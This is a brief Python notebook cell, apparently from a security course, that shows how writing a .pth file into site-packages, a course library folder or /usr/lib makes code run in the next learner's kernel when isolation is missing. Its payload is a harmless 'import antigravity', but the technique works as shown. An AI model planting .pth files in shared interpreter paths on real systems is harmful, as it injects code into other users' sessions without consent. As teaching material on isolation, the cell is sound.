# The packages that the next learner's kernel imports are changed on the disk
# wall: without a wall they can be written
# costs: nothing
# stock: not run: dangerous
# %% own
import sysconfig
from pathlib import Path

import course_lib

for folder in (sysconfig.get_path("purelib"), Path(course_lib.__file__).parent, "/usr/lib"):
    try:
        Path(folder, "course_attack_left.pth").write_text("import antigravity")
        print("written", folder)
    except OSError as error:
        print(error.strerror)
